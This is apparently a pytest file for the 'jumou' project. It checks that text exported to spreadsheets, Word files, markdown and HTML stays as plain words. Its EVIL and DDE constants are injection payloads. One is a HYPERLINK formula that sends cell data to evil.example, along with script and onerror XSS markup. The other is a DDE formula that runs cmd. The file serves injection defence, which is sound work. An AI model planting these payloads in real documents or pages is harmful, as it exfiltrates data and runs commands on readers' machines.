"""Whatever texts say — formulas, markup, orders to a spreadsheet — every file that leaves jumou holds them as words."""

import html.parser
import io
import re
import zipfile
from pathlib import Path
from typing import Any, Final

import openpyxl
import pytest

from jumou.domain.batch import BatchResult, Failure
from jumou.domain.operation import Period
from jumou.domain.plan import Plan
from jumou.domain.region import ProfileProblem
from jumou.evaluation.pages import Fold, Heading, Prose, Table, markdown, page
from jumou.export import actuals_xlsx, projects_xlsx
from jumou.export.batch import write_workbook
from jumou.export.chapters import outline
from jumou.export.markdown import plan_markdown
from jumou.export.word import plan_docx

EVIL: Final = '=HYPERLINK("http://evil.example/?"&A1,"x")<img src=x onerror=alert(1)><script>alert(2)</script>](javascript:alert(3))'
DDE: Final = "@SUM(1)*cmd|' /C calc'!A0"
_FREE: Final = frozenset(("name", "title", "text", "objective", "scale", "site", "lead_body", "task", "body", "what", "who", "output", "goal", "duties", "issuer", "note", "priority_reason", "investment_basis", "method", "owner", "data_source", "members", "content", "partners"))  # fmt: skip


def poisoned(value: Any, key: str = "") -> Any:
    """The value with every free text replaced, alternately by markup and by an order to a spreadsheet."""
    if isinstance(value, dict):
        return {name: poisoned(inner, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [poisoned(inner, key) for inner in value]
    if isinstance(value, str) and key in _FREE:
        return (EVIL, DDE)[len(value) % 2]
    return value


@pytest.fixture(scope="module")
def evil(plan: Plan) -> Plan:
    return Plan.model_validate(poisoned(plan.model_dump(mode="json")))


def formulas(content: bytes) -> list[str]:
    """Every formula of a workbook, as it stands in its XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        names = "".join(archive.namelist())
    assert "externalLink" not in names
    assert "hyperlink" not in "".join(sheets).lower().replace(html_of("=HYPERLINK").lower(), "")
    return [found for sheet in sheets for found in re.findall(r"<f[ >][^<]*<?", sheet)]


def html_of(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;")


def test_no_text_becomes_a_formula_in_any_workbook(evil: Plan, plan: Plan, tmp_path: Path) -> None:
    period = Period.read("2026")
    assert period is not None
    problem = ProfileProblem(severity="error", file=EVIL, sheet=DDE, row=1, column=EVIL, message=DDE, mend=EVIL)
    failed = Failure(kind="InvalidProfile", message=EVIL, mend=DDE, problems=(problem,))
    rows = [BatchResult(row=1, source=EVIL, region=DDE, state="failed", attempt=1, failure=failed)]
    batch = write_workbook(rows, tmp_path / "batch.xlsx", "zh").read_bytes()
    assert formulas(batch) == []
    assert formulas(actuals_xlsx(evil, period, {})) == []
    own, with_evil = formulas(projects_xlsx(plan)), formulas(projects_xlsx(evil))
    assert len(with_evil) == len(own) > 0
    assert not [one for one in with_evil if "HYPERLINK" in one or "cmd" in one]
    for content in (batch, projects_xlsx(evil), actuals_xlsx(evil, period, {})):
        book = openpyxl.load_workbook(io.BytesIO(content))
        texts = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str) and ("HYPERLINK" in cell.value or "cmd|" in cell.value)]  # fmt: skip
        assert texts
        assert {cell.data_type for cell in texts} == {"s"}


def test_word_holds_texts_as_runs_and_links_nowhere_they_say(evil: Plan) -> None:
    with zipfile.ZipFile(io.BytesIO(plan_docx(outline(evil, {})))) as archive:
        rels = "".join(archive.read(name).decode() for name in archive.namelist() if name.endswith(".rels"))
        document = archive.read("word/document.xml").decode()
    assert "evil.example" not in rels
    assert "javascript:" not in rels
    assert "<script" not in document
    assert "onerror=alert" in document  # as words
    assert not re.search(r"instrText[^<]*(?:HYPERLINK \"http|DDE|INCLUDE)", document)


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        assert not [name for name, _ in attrs if name.startswith("on")]


def test_markdown_and_pages_of_evaluations_hold_no_markup_of_a_text(evil: Plan) -> None:
    text = plan_markdown(outline(evil, {}))
    assert not re.search(r"(?<!\\)<(?:script|img)", text)
    blocks = [Heading(EVIL, 2), Prose(EVIL), Table((EVIL,), ((EVIL,), (DDE,)), EVIL), Fold(EVIL, (Prose(EVIL),))]
    tags = _Tags()
    tags.feed(page(EVIL, blocks, "zh"))
    assert not {"script", "img"} & tags.seen
    assert "<script" not in markdown(blocks).replace("\\<script", "")
